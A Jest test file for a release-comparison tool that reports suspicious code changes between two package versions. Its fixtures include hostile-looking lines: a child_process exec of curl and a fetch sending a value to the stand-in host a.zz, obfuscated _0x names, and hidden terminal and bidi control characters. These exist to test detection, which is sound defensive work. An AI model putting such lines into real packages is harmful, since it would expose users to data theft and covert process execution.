import { describe, expect, it } from '@jest/globals'
import { compare } from '../../../src/compare/pairing.js'
import type { ChangedCode, CodeChange } from '../../../src/model/report.js'
import { renderCodeChanges } from '../../../src/report/render/changed-code.js'
import { changedCodeOf } from '../../../src/rules/changed-code/code-changes.js'
import { effortOf } from '../../helpers/effort.js'
import { codeRelease } from '../../helpers/modules.js'

type Files = Readonly<Record<string, string>>

function changed(before: Files, after: Files, versions = ['1.0.0', '1.0.0']): ChangedCode {
  const [baseline, release] = [before, after].map((files, at) => ({
    ...codeRelease(files, { main: 'index.js' }),
    version: versions[at] ?? '1.0.0',
  }))
  if (!baseline || !release) throw new Error('two releases')
  const texts = new Map(
    [...baseline.files, ...release.files].map(({ sha256, path }) => [
      sha256,
      (release.files.some((file) => file.path === path && file.sha256 === sha256) ? after : before)[path] ?? '',
    ]),
  )
  const comparison = compare(release.files, baseline.files)
  const found = changedCodeOf({ release, baseline, comparison }, { text: (sha256) => texts.get(sha256) ?? null })
  if (!found) throw new Error('there is a baseline')
  return found
}

function changes(before: Files, after: Files): readonly CodeChange[] {
  return changed(before, after).files
}

function shown(before: string, after: string): string {
  return renderCodeChanges(changed({ 'index.js': before }, { 'index.js': after }))
}

const lines = (count: number, text = 'step'): string =>
  Array.from({ length: count }, (_, n) => `${text}(${n})\n`).join('')
const minified = (names: readonly [string, string]): string =>
  Array.from(
    { length: 40 },
    (_, n) => `function f${n}x(${names[0]},${names[1]}){return ${names[0]}+${names[1]}*${n}}`,
  ).join('')

describe('changed code', () => {
  it('shows the most telling change first, with what is new in it', () => {
    const before = lines(60)
    const after = `${lines(10)}other(1)\n${lines(40)}require('child_process').exec('curl https://a.zz')\n${lines(60).slice(0, 0)}`
    const text = shown(before, after)
    const [first, second] = [text.indexOf('starts processes, host a.zz'), text.indexOf('+ other(1)')]
    expect(first).toBeGreaterThan(0)
    expect(second).toBeGreaterThan(first)
    expect(text).toContain("    + require('child_process').exec('curl https://a.zz')")
  })

  it('is silent for files that did not change, and that no one runs', () => {
    const before = { 'index.js': lines(3), 'test/a.js': lines(2) }
    expect(changes(before, { ...before, 'test/a.js': lines(9) })).toEqual([])
    expect(renderCodeChanges({ files: [] })).toBe('Changed code: none that users run\n')
  })

  it('says what changed in names, layout or line ends alone', () => {
    const kinds = (before: string, after: string): readonly string[] =>
      changes({ 'index.js': before }, { 'index.js': after }).map(({ kind, hunks }) => `${kind} ${hunks.length}`)
    expect(kinds(minified(['a', 'b']), minified(['t', 'n']))).toEqual(['names 0'])
    expect(kinds(lines(9), lines(9).replaceAll('\n', '\r\n'))).toEqual(['layout 0'])
    expect(kinds('a(b)', '/* new */ a( b )')).toEqual(['layout 0'])
    expect(kinds('load(b)', 'evil(b)')).toEqual(['code 1'])
    expect(kinds('a.load(b)', 'a.evil(b)')).toEqual(['code 1'])
    expect(kinds('a(b,b)', 'a(c,d)')).toEqual(['code 1'])
    expect(kinds('a(b)', 'eval(b)')).toEqual(['code 1'])
    expect(kinds('a(b)', 'URL(b)')).toEqual(['code 1'])
  })

  it('cuts a minified line into statements, and takes names given anew for the same', () => {
    const text = shown(minified(['a', 'b']), `${minified(['t', 'n'])}fetch("https://a.zz/"+t);`)
    expect(text).toMatch(/index\.js: 1 change\n {2}line 1:\d+: sends requests, host a\.zz\n/)
    expect(text).toContain('    + fetch("https://a.zz/"+t);')
    expect(text.split('\n').filter((line) => /^ {4}[+-]/.test(line))).toHaveLength(1)
  })

  it('says that lines were moved', () => {
    const [moved, rest] = ['first()\nsecond()\n', lines(20)]
    const [change] = changes({ 'index.js': moved + rest }, { 'index.js': rest + moved })
    expect(change?.hunks.map(({ news }) => news)).toContainEqual(['moved'])
  })

  it('pairs a file with another hash in its name, or another name, by its words', () => {
    const words = (text: string): string => Array.from({ length: 50 }, (_, n) => `${text}${n}(${n})\n`).join('')
    const before = { 'index.js': '', 'a-B1c2D3e4.js': words('functionOfTheFirst'), 'z.js': words('functionOfTheOther') }
    for (const name of ['b-X1y2Z3w4.js', 'new.js']) {
      const [one, ...others] = changes(before, { 'index.js': '', [name]: `${words('functionOfTheFirst')}more()\n` })
      expect(others).toEqual([])
      expect(one).toMatchObject({ path: name, was: 'a-B1c2D3e4.js' })
      expect(one?.hunks).toHaveLength(1)
    }
  })

  it('takes no change for a copy that differs where it is cut', () => {
    const before = { 'index.js': lines(30), 'index.mjs': lines(30) }
    const text = (middle: string): string => `${lines(30)}set("${'a'.repeat(200)}${middle}${'z'.repeat(200)}")\n`
    const all = changes(before, { 'index.js': text('one'), 'index.mjs': text('two') })
    const hunks = all.flatMap((each) => each.hunks)
    expect(new Set(hunks.map(({ lines: [...shown] }) => shown.at(-1))).size).toBe(1)
    expect(hunks.map(({ copies }) => copies)).toEqual([undefined, undefined])
  })

  it('shows the same change in several files once', () => {
    const before = { 'index.js': lines(30), 'index.mjs': lines(30), 'index.min.js': lines(30) }
    const more = `${lines(30)}more()\n`
    const all = changes(before, { 'index.js': more, 'index.mjs': more, 'index.min.js': `${more}other()\n` })
    const hunks = all.flatMap((each) => each.hunks)
    expect(hunks.map(({ copies }) => copies)).toEqual([undefined, 1])
    expect(renderCodeChanges({ files: all })).toContain('the same changes as in another file')
  })

  it('shows the same change of several formats once, with the names of the other files', () => {
    const before = { 'index.js': lines(30), 'a.mjs': lines(30), 'b.js': lines(30) }
    const all = changes(before, {
      'index.js': `${lines(30)}exports.size = (0, util_1.measure)(text);\n`,
      'a.mjs': `${lines(30)}export const size = measure(text)\n`,
      'b.js': `${lines(30)}var size = measure(text);\n`,
    })
    const hunks = all.flatMap((each) => each.hunks)
    expect(hunks).toHaveLength(1)
    expect(hunks[0]).toMatchObject({ copies: 2, news: ['calls measure'] })
    const paths = [...(hunks[0]?.also ?? []), ...all.flatMap(({ path, hunks: [one] }) => (one ? [path] : []))]
    expect(paths.sort()).toEqual(['a.mjs', 'b.js', 'index.js'])
    expect(renderCodeChanges({ files: all })).toMatch(/\(the same in \S+, \S+\)/)
  })

  it.each([
    ['another call', 'export const a = f(b)', 'exports.a = (0, u_1.exec)(b);'],
    ['another string', 'export const a = f("b")', "exports.a = (0, u_1.f)('c');"],
    ['another host', 'export const a = f("https://a.zz/")', "exports.a = (0, u_1.f)('https://b.zz/');"],
    ['one call more', 'export const a = f(b)', 'exports.a = (0, u_1.f)(b);run(a);'],
    ['code in place of a comment', '// run ( a )', 'run(a)'],
    ['code in place of comments on lines', '// a\nf(b)\n/*\n run\n (\n a\n )\n*/', 'f(b)\nrun\n(\na\n)'],
    ['code behind a template', 'const t = `\n// a\n`', 'const t = `\n//`; run(a); `\n`'],
    ['another owner', 'a.f(b)', 'child.f(b)'],
    ['another number', 'export const a = [1, 2]', 'exports.a = [1, 3]'],
    ['a string in place of names', 'f("a.b")', 'f(a.b)'],
  ])('keeps a change of one build apart: %s', (_, esm, cjs) => {
    const before = { 'index.js': lines(30), 'a.mjs': lines(30) }
    const all = changes(before, { 'index.js': `${lines(30)}${cjs}\n`, 'a.mjs': `${lines(30)}${esm}\n` })
    const shown = all.flatMap((each) => each.hunks.flatMap((hunk) => hunk.lines)).join('\n')
    for (const line of cjs.split('\n')) expect(shown).toContain(`+${line}`)
  })

  it('shows the version number of the release once, but for what changed beside it', () => {
    const text = (version: string, more = ''): string => `${lines(30)}set("${version}")${more}\n`
    const before = { 'index.js': text('1.0.0') + text('v 1.0.0'), 'a.mjs': text('1.0.0'), 'b.js': text('1.0.0') }
    const after = {
      'index.js': text('1.0.1') + text('v 1.0.1'),
      'a.mjs': text('1.0.1'),
      'b.js': text('1.0.1', ';run()'),
    }
    const hunks = changed(before, after, ['1.0.0', '1.0.1']).files.flatMap((each) => each.hunks)
    expect(hunks).toHaveLength(2)
    expect(hunks.map(({ copies }) => copies)).toEqual([undefined, 1])
    expect(hunks[0]?.lines).toContain('+set("1.0.1");run()')
  })

  it('shows changes near each other as one', () => {
    const text = (a: string, b: string): string => `${lines(20)}${a}\n${lines(9)}${b}\n${lines(20)}`
    const near = changes({ 'index.js': text('first', 'second') }, { 'index.js': text('former', 'latter') })
    expect(near[0]?.hunks.map((hunk) => hunk.lines.filter((line) => line.startsWith('+')))).toEqual([
      ['+former', '+latter'],
    ])
    const far = (a: string, b: string): string => `${a}\n${lines(20)}${b}\n`
    expect(
      changes({ 'index.js': far('first', 'second') }, { 'index.js': far('former', 'latter') })[0]?.hunks,
    ).toHaveLength(2)
  })

  it('pairs the lines of a file of which each changed, and ends soon', async () => {
    const [before, after] = [lines(30_000, 'formerly'), lines(30_000, 'recently')]
    const found: CodeChange[] = []
    const effort = await effortOf(() => {
      found.push(...changes({ 'index.js': before }, { 'index.js': after }))
    })
    expect(effort).toBeLessThan(6000)
    expect(found[0]?.hunks).toHaveLength(10)
    expect(found[0]?.left).toBeGreaterThan(1200)
  })

  it('compares a new file with the one that it is a copy of, and shows all of a new one', () => {
    const words = Array.from({ length: 60 }, (_, at) => `function word${at}Of(first) {\n  return first * ${at}\n}\n`)
    const text = words.join('')
    const found = changes(
      { 'index.js': text },
      { 'index.js': text, 'index.mjs.js': `${text}more()\n`, 'own.js': 'alone()\n' },
    )
    expect(found).toMatchObject([
      { path: 'own.js', hunks: [{ lines: ['+alone()'] }] },
      { path: 'index.mjs.js', was: 'index.js', hunks: [{ news: ['calls more'] }] },
    ])
    expect(found[0]).not.toHaveProperty('was')
  })

  it('passes over comments, but for those that hold what is no text', () => {
    expect(changes({ 'index.js': '/* 1.0 */\na()\n' }, { 'index.js': '/* 1.1 */\na()\nb()\n' })).toMatchObject([
      { hunks: [{ lines: ['-/* 1.0 */', '+/* 1.1 */', ' a()', '+b()'] }] },
    ])
    const long = lines(20, 'a')
    const comment = (text: string): string => `// ${text}\n${long}`
    expect(changes({ 'index.js': comment('1') }, { 'index.js': `${comment('2')}b()\n` })[0]?.hunks).toHaveLength(1)
    const code = Buffer.from(long).toString('base64')
    expect(changes({ 'index.js': comment('1') }, { 'index.js': `${comment(code)}b()\n` })[0]?.hunks).toHaveLength(2)
  })

  it('has what was left from development before what is ordinary', () => {
    const [one] = changes({ 'index.js': 'a()\n' }, { 'index.js': `${lines(60, 'more')}debugger\n${lines(60, 'rest')}` })
    expect(one?.hunks[0]?.lines).toContain('+debugger')
    expect(one?.hunks[0]?.news).toContain('left from development: debugger')
  })

  it('begins with where obfuscated code begins', () => {
    const names = Array.from({ length: 40 }, (_, at) => `var _0x${(4096 + at).toString(16)} = ${at};`).join('\n')
    const [one] = changes({ 'index.js': 'a()\n' }, { 'index.js': `a()\n${lines(60, 'more')}${names}\n` })
    expect(one?.hunks[0]?.lines.join('\n')).toContain('_0x1000 ')
    expect(one?.hunks[0]?.news[0]).toContain('names such as _0x')
  })

  it('shows hostile text as text', () => {
    const text = shown('a()\n', `a()\n//\u001b[31m\u202e::error::x\n${' '.repeat(300)}b()\n`)
    expect(text).toContain('\\u{1b}[31m\\u{202e}')
    expect(text).not.toMatch(/[\u001b\u202e]|::error/)
    expect(text).toContain('[300 blanks] b()')
  })

  it('shows a part of a long change, around what says most', () => {
    const after = `${lines(100, 'more')}require('child_process')\n${lines(100, 'rest')}`
    const [one] = changes({ 'index.js': 'a()\n' }, { 'index.js': after })
    const [hunk] = one?.hunks ?? []
    expect(hunk?.lines).toContain("+require('child_process')")
    expect(hunk?.lines).toHaveLength(24)
    expect(hunk?.line).toBe(101)
    expect(one?.hunks).toHaveLength(9)
  })

  it('shows a line of very many statements', () => {
    const long = 'a;'.repeat(200_000)
    const [one] = changes({ 'index.js': `${long}b()` }, { 'index.js': `${long}more()` })
    expect(one?.hunks[0]?.news).toEqual(['calls more'])
  })

  it('takes a text that could not be read to its end for changed', () => {
    const broken = "x '\n".repeat(300)
    const [one] = changes({ 'index.js': `${broken}a()` }, { 'index.js': `${broken}eval(b)` })
    expect(one?.kind).toBe('code')
  })
})
